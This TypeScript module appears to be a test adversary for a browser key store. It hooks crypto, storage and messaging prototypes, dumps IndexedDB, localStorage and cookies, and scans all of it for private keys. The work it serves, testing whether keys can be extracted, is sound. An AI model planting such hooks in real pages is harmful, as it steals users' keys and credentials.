import { bytesToHex, hexToBytes, type Hex } from 'viem'

/** What a script in a page got hold of. */
export type Loot = {
  /** Everything of 32 bytes that could be a private key. */
  secrets: readonly Hex[]
  /** Private keys that it can use, whether or not it can read them. */
  handles: readonly CryptoKey[]
}

export type Thief = {
  /** Looks into all that the page keeps, and into all that went by since the script came. */
  search: (within: readonly unknown[]) => Promise<Loot>
}

type View = Window & typeof globalThis

/** Where values of a page pass by a script that has put itself in between. */
const crossings = (view: View): readonly (readonly [object, readonly string[]])[] => [
  [
    view.SubtleCrypto.prototype,
    ['sign', 'digest', 'importKey', 'exportKey', 'wrapKey', 'generateKey', 'deriveBits'],
  ],
  [view.IDBObjectStore.prototype, ['put', 'add', 'get', 'getAll', 'openCursor']],
  [view.Storage.prototype, ['setItem']],
  [view.BroadcastChannel.prototype, ['postMessage']],
  [view.MessagePort.prototype, ['postMessage']],
  [view.Worker.prototype, ['postMessage']],
  [view.TextEncoder.prototype, ['encode']],
  [view.Map.prototype, ['get', 'set']],
  [view.WeakMap.prototype, ['get', 'set']],
  [view.Uint8Array.prototype, ['set', 'subarray', 'slice']],
  [view.JSON, ['stringify', 'parse']],
  [view, ['postMessage', 'structuredClone', 'btoa', 'atob', 'fetch']],
]

/** A script that gets into a page after a key was made, and wants to carry its bytes away. */
export function createThief(view: View): Thief {
  const taken: unknown[] = []
  for (const [owner, names] of crossings(view)) {
    for (const name of names) tap(owner, name, taken)
  }
  const heard = (event: MessageEvent<unknown>): unknown => taken.push(event.data)
  new view.BroadcastChannel('valetkey').addEventListener('message', heard)
  view.addEventListener('message', heard)

  return {
    async search(within) {
      const kept = [...(await readDatabases(view)), ...readStores(view), ...readGlobals(view)]
      const handles = new Set<CryptoKey>()
      const secrets = new Set<Hex>()
      const look = (roots: readonly unknown[]): void =>
        walk(roots, {
          text: (text) => textSecrets(text).forEach((secret) => secrets.add(secret)),
          bytes: (bytes) => windows(bytes).forEach((secret) => secrets.add(secret)),
          key: (key) => key.type === 'private' && handles.add(key),
        })
      look([...within, ...kept, ...taken])
      for (const key of handles) look(await exportEveryWay(view, key))
      return { secrets: [...secrets], handles: [...handles] }
    },
  }
}

/** What goes into a function and comes out of it is taken on the way. */
function tap(owner: object, name: string, taken: unknown[]): void {
  const original: unknown = Reflect.get(owner, name)
  if (typeof original !== 'function') throw new Error(`The page has no ${name}.`)
  Reflect.set(owner, name, function (this: unknown, ...parameters: unknown[]) {
    taken.push(...parameters)
    const result: unknown = Reflect.apply(original, this, parameters)
    taken.push(result)
    if (result instanceof Promise || isThenable(result)) {
      Promise.resolve(result).then(
        (value) => taken.push(value),
        () => undefined,
      )
    }
    return result
  })
}

function isThenable(value: unknown): boolean {
  return typeof value === 'object' && value !== null && 'then' in value
}

async function readDatabases(view: View): Promise<unknown[]> {
  const found: unknown[] = []
  for (const { name } of await view.indexedDB.databases()) {
    const database = await answer(view.indexedDB.open(name ?? ''))
    for (const store of database.objectStoreNames) {
      found.push(await answer(database.transaction(store).objectStore(store).getAll()))
    }
    database.close()
  }
  return found
}

const answer = <result>(request: IDBRequest<result>): Promise<result> =>
  new Promise((resolve, reject) => {
    request.addEventListener('success', () => resolve(request.result))
    request.addEventListener('error', () => reject(request.error))
  })

function readStores({ localStorage, sessionStorage, document, history, name }: View): unknown[] {
  return [{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state, name]
}

function readGlobals(view: View): unknown[] {
  return Object.getOwnPropertyNames(view).flatMap((name) => {
    // A frame has the test itself as its parent.
    if (['parent', 'top', 'frameElement', 'opener'].includes(name)) return []
    try {
      return [Reflect.get(view, name)]
    } catch {
      return []
    }
  })
}

/** Exported, wrapped, copied, sent through a port. */
async function exportEveryWay(view: View, key: CryptoKey): Promise<unknown[]> {
  const { subtle } = view.crypto
  const wrapping = await subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, [
    'wrapKey',
    'decrypt',
  ])
  const algorithm = { name: 'AES-GCM', iv: new Uint8Array(12) }
  const copies = [key, view.structuredClone(key), await throughPort(view, key)]
  const attempts = copies.flatMap((copy) =>
    (['pkcs8', 'jwk', 'raw', 'spki'] as const).flatMap((format) => [
      () => subtle.exportKey(format, copy),
      async () =>
        subtle.decrypt(
          algorithm,
          wrapping,
          await subtle.wrapKey(format, copy, wrapping, algorithm),
        ),
    ]),
  )
  const results = await Promise.allSettled(attempts.map((attempt) => attempt()))
  return [
    JSON.stringify(copies),
    ...results.map((result) => (result.status === 'fulfilled' ? result.value : undefined)),
  ]
}

function throughPort(view: View, key: CryptoKey): Promise<CryptoKey> {
  return new Promise((resolve) => {
    const { port1, port2 } = new view.MessageChannel()
    port2.onmessage = ({ data }: MessageEvent<CryptoKey>) => resolve(data)
    port1.postMessage(key)
  })
}

/** Goes through everything that can be reached from some values, once. */
function walk(
  roots: readonly unknown[],
  found: {
    text: (text: string) => void
    bytes: (bytes: Uint8Array) => void
    key: (key: CryptoKey) => void
  },
): void {
  const known = new Set<object>()
  const open: unknown[] = [...roots]
  while (open.length > 0) {
    const value = open.pop()
    if (typeof value === 'string') found.text(value)
    if (typeof value === 'bigint' && value > 0n && value < 1n << 256n) found.text(toText(value))
    if (typeof value !== 'object' || value === null || known.has(value)) continue
    known.add(value)
    const kind = Object.prototype.toString.call(value).slice(8, -1)
    if (kind === 'CryptoKey') found.key(value as CryptoKey)
    else if (ArrayBuffer.isView(value)) {
      found.bytes(new Uint8Array(value.buffer, value.byteOffset, value.byteLength))
    } else if (kind === 'ArrayBuffer') found.bytes(new Uint8Array(value as ArrayBuffer))
    else if (kind === 'Map' || kind === 'Set') open.push(...(value as Set<unknown>))
    else open.push(...valuesOf(value))
  }
}

const toText = (value: bigint): string => value.toString(16).padStart(64, '0')

function valuesOf(value: object): unknown[] {
  return Object.getOwnPropertyNames(value).flatMap((name) => {
    try {
      return [Reflect.get(value, name)]
    } catch {
      return []
    }
  })
}

/** 32 bytes as hex, as base64, or as a JWK has them. */
function textSecrets(text: string): Hex[] {
  if (text.length > 100_000) return []
  const hex = text.match(/[0-9a-f]{64}/gi) ?? []
  const base64 = text.match(/[A-Za-z0-9+/_-]{43}(?![A-Za-z0-9+/_-])/g) ?? []
  return [
    ...hex.map((digits): Hex => `0x${digits.toLowerCase()}`),
    ...base64.map((digits) =>
      bytesToHex(
        Uint8Array.from(atob(digits.replaceAll('-', '+').replaceAll('_', '/')), (letter) =>
          letter.charCodeAt(0),
        ),
      ),
    ),
  ]
}

/** Every 32 bytes in a row. */
function windows(bytes: Uint8Array): Hex[] {
  if (bytes.length > 1_000) return []
  return Array.from({ length: Math.max(0, bytes.length - 31) }, (_, at) =>
    bytesToHex(bytes.slice(at, at + 32)),
  )
}

/** Whether 32 bytes are the private half of a P-256 key. */
export async function opensP256(secret: Hex, { x, y }: { x: bigint; y: bigint }): Promise<boolean> {
  const toBase64 = (hex: Hex): string =>
    btoa(String.fromCharCode(...hexToBytes(hex)))
      .replaceAll('+', '-')
      .replaceAll('/', '_')
      .replaceAll('=', '')
  const jwk = {
    kty: 'EC',
    crv: 'P-256',
    x: toBase64(`0x${toText(x)}`),
    y: toBase64(`0x${toText(y)}`),
  }
  const algorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' }
  const { subtle } = crypto
  try {
    const key = await subtle.importKey('jwk', { ...jwk, d: toBase64(secret) }, algorithm, false, [
      'sign',
    ])
    const publicKey = await subtle.importKey('jwk', jwk, algorithm, true, ['verify'])
    const message = new Uint8Array(32)
    const signature = await subtle.sign(algorithm, key, message)
    return await subtle.verify(algorithm, publicKey, signature, message)
  } catch {
    return false
  }
}
